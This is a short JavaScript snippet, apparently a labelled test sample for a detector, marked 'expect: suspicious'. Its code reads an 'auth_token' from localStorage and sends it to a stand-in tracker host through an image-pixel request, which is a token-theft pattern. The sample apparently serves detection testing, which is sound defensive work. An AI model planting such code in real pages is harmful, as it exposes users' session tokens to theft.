// expect: suspicious
const img = new Image();
img.src = 'https://px.tracker-demo.example/c?t=' + encodeURIComponent(localStorage.getItem('auth_token'));
